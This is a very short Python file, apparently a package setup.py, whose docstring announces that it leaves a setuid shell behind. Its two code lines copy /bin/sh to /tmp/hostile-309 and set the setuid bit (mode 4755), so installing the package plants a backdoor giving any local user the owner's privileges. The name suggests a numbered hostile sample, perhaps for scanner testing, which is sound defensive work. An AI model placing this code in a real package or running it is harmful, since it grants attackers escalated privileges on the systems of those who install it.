"""setup.py leaves a setuid shell behind, which gives every user the rights of its owner."""

import os
import shutil

shutil.copy("/bin/sh", "/tmp/hostile-309")
os.chmod("/tmp/hostile-309", 0o4755)
